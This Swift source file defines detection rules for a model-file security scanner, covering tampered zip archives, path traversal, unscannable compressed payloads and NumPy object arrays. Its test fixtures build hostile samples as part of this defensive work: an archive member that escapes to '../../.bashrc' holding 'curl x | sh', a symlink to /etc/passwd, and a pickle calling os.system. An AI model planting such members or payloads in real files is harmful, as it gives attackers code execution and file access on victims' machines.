import BulwarkCore

/// Zip tricks that make scanners and loaders read different bytes.
struct ArchiveZipTamperingRule: Rule {
    typealias Model = ModelFile

    var description: RuleDescription { Self.info }

    static let info = RuleDescription(
            id: "archive-zip-tampering", name: "Tampered model archive", family: "models",
            summary: "The model archive has CRC mismatches, local/central name or flag mismatches, duplicate names, encrypted members or prepended data.",
            rationale: """
            ## What it detects
            Inconsistencies in a zip-based model (PyTorch checkpoints, `.npz`, `.keras`) that a normal writer \
            never produces: a member whose CRC-32 does not match, a local header naming a different file than the \
            central directory, encryption or compression flags that differ between the two, the same name twice, \
            a member without a valid local header, bytes prepended before the archive (or a pickle with a zip \
            appended: a polyglot).

            ## Why it matters
            Each inconsistency lets two readers see different content. Scanners built on Python's `zipfile` \
            reject or skip such members while PyTorch's reader loads them; a duplicate name resolves to a \
            different copy in each; a polyglot is a pickle to `pickle.load` and a zip to a scanner.

            ## How to fix
            Do not load the file; re-download it from the original publisher and verify its hash. Re-save models \
            you produce with the library's own writer (`torch.save`, `numpy.savez`, `model.save`).

            ## References
            - PKWARE APPNOTE.TXT (zip file format specification)
            - CWE-345: Insufficient Verification of Data Authenticity
            """,
            defaultSeverity: .high, defaultConfidence: .medium,
            remediation: "Do not load the archive; re-download it from the publisher and verify its hash.",
            examples: [
                Example(.triggers, path: "models/model.pt", bytes: Self.crcTrick),
                Example(.clean, path: "models/model.pt", bytes: ZipBuilder.torchCheckpoint(pickle: PickleExamples.stateDict)),
            ])

    static var crcTrick: [UInt8] {
        var z = ZipBuilder()
        z.add(.init(name: "archive/data.pkl", data: PickleExamples.stateDict, crcOverride: 0xDEAD_BEEF))
        z.add("archive/version", Array("3\n".utf8))
        return z.build()
    }

    func check(_ model: ModelFile, context: RuleContext) -> [Finding] {
        issueFindings(model, kind: .zipTampering, rule: description, context: context)
    }
}

/// Archive members that escape the extraction folder or are links.
struct ArchivePathTraversalRule: Rule {
    typealias Model = ModelFile

    var description: RuleDescription { Self.info }

    static let info = RuleDescription(
            id: "archive-path-traversal", name: "Archive member escapes its folder", family: "models",
            summary: "A zip or tar model archive holds absolute paths, `..` components, symlinks or hard links.",
            rationale: """
            ## What it detects
            Members of a zip or tar model archive (legacy torch tar checkpoints, `.keras`, `.npz`, bundles) \
            whose path is absolute, carries a drive letter or `..` component, or that are symbolic or hard links.

            ## Why it matters
            Tools that extract model bundles (`tarfile.extractall`, hub download helpers, custom loaders) write \
            outside the target folder or follow a link into `~/.ssh` or a site-packages directory: an arbitrary \
            file write that leads to code execution (the "zip slip" and tarfile CVE-2007-4559 family).

            ## How to fix
            Do not extract the archive. Rebuild it with relative member paths and regular files only.

            ## References
            - CWE-22: Path Traversal; CWE-59: Link Following
            - CVE-2007-4559 (Python tarfile), Snyk "Zip Slip" research
            """,
            defaultSeverity: .high, defaultConfidence: .high,
            remediation: "Do not extract the archive; rebuild it with relative paths and regular files only.",
            examples: [
                Example(.triggers, path: "models/bundle.zip", bytes: Self.traversal),
                Example(.clean, path: "models/model.pt", bytes: ZipBuilder.torchCheckpoint(pickle: PickleExamples.stateDict)),
            ])

    static var traversal: [UInt8] {
        var z = ZipBuilder()
        z.add("model/config.json", Array("{}".utf8))
        z.add("../../.bashrc", Array("curl x | sh\n".utf8))
        z.add(.init(name: "model/link", data: Array("/etc/passwd".utf8), unixMode: 0o120777))
        return z.build()
    }

    func check(_ model: ModelFile, context: RuleContext) -> [Finding] {
        issueFindings(model, kind: .pathTraversal, rule: description, context: context)
    }
}

/// Payloads Bulwark cannot unpack are reported, never passed silently.
struct ArchiveUnscannablePayloadRule: Rule {
    typealias Model = ModelFile

    var description: RuleDescription { Self.info }

    static let info = RuleDescription(
            id: "archive-unscannable-payload", name: "Unscannable compressed payload", family: "models",
            summary: "A model file or member is compressed or encrypted in a format Bulwark cannot unpack (7z, RAR, zstd, LZ4, encrypted zip), or its compressed data is corrupt.",
            rationale: """
            ## What it detects
            A model file that is (or contains) 7z, RAR, Zstandard or LZ4 data, a zip member compressed with a \
            method other than stored, deflate, bzip2, LZMA or xz, or an encrypted pickle member. gzip, zlib, \
            bzip2, xz and legacy `.lzma` streams (joblib `compress=`) are decoded and their content scanned; \
            when such a stream is corrupt or truncated, what decoded before the error is scanned and the \
            break itself is reported here (medium): a loader fails there after running what came before.

            ## Why it matters
            The nullifAI models hid their pickle in a 7z-compressed PyTorch file: scanners that could not open it \
            passed it. A loader or a pre-processing step that can unpack the data runs what is inside; Bulwark \
            cannot see it, so it says so instead of calling the file clean.

            ## How to fix
            Unpack the payload in a sandbox and scan the result, or ask the publisher for a standard format \
            (safetensors, or a stored/deflated zip checkpoint).

            ## References
            - ReversingLabs, "nullifAI" (7z-compressed PyTorch models on Hugging Face, 2025)
            - CWE-693: Protection Mechanism Failure
            """,
            defaultSeverity: .high, defaultConfidence: .medium,
            remediation: "Unpack in a sandbox and scan the content, or obtain the model in a standard format.",
            examples: [
                Example(.triggers, path: "models/model.pt", bytes: [0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0x00, 0x04] + [UInt8](repeating: 0, count: 24)),
                Example(.clean, path: "models/model.pt", bytes: ZipBuilder.torchCheckpoint(pickle: PickleExamples.stateDict)),
            ])

    func check(_ model: ModelFile, context: RuleContext) -> [Finding] {
        issueFindings(model, kind: .unscannablePayload, rule: description, context: context)
    }
}

/// `.npy` files holding Python objects (a pickle in disguise).
struct NumpyObjectArrayRule: Rule {
    typealias Model = ModelFile

    var description: RuleDescription { Self.info }

    static let info = RuleDescription(
            id: "numpy-object-array", name: "NumPy object array", family: "models",
            summary: "A .npy file (or .npz member) has an object dtype, so its data is a pickle.",
            rationale: """
            ## What it detects
            A NumPy `.npy` header whose `descr` contains an object type (`|O`, including inside a structured \
            dtype) whose pickle body imports or calls something, or cannot be fully read. The body is also \
            analysed with the pickle rules. An object array whose pickle holds only plain data (numbers, \
            strings, lists, dicts) runs nothing when loaded and is not reported.

            ## Why it matters
            `numpy.load(..., allow_pickle=True)` (often enabled to silence the error) unpickles the body and \
            runs whatever it calls. Weights never need object arrays.

            ## How to fix
            Store numeric arrays with a numeric dtype, or use safetensors; never pass `allow_pickle=True` for \
            files you did not produce.

            ## References
            - NumPy documentation, `numpy.load` `allow_pickle` (CVE-2019-6446)
            - CWE-502: Deserialization of Untrusted Data
            """,
            defaultSeverity: .medium, defaultConfidence: .high,
            remediation: "Use a numeric dtype or safetensors; do not load with allow_pickle=True.",
            examples: [
                Example(.triggers, path: "data/arr.npy", bytes: Self.npy(descr: "|O", body: PickleBuilder.call("os", "system", ["true"]))),
                Example(.clean, path: "data/arr.npy", bytes: Self.npy(descr: "<f4", body: [0, 0, 128, 63])),
                // An object array whose pickle holds only plain data (a list of ints) runs nothing when loaded.
                Example(.clean, path: "data/labels.npy", bytes: Self.npy(descr: "|O", body: [0x80, 0x02, 0x5D, 0x71, 0x00, 0x28, 0x4B, 0x01, 0x4B, 0x02, 0x65, 0x2E])),
            ])

    /// A version 1 `.npy` file with the given dtype and body.
    static func npy(descr: String, body: [UInt8]) -> [UInt8] {
        let d = descr.hasPrefix("[") ? descr : "'\(descr)'"
        var header = "{'descr': \(d), 'fortran_order': False, 'shape': (1,), }"
        while (10 + header.utf8.count + 1) % 64 != 0 { header += " " }
        header += "\n"
        let n = header.utf8.count
        return [0x93] + Array("NUMPY".utf8) + [1, 0, UInt8(n & 0xFF), UInt8(n >> 8)] + Array(header.utf8) + body
    }

    func check(_ model: ModelFile, context: RuleContext) -> [Finding] {
        issueFindings(model, kind: .numpyObjectArray, rule: description, context: context)
    }
}
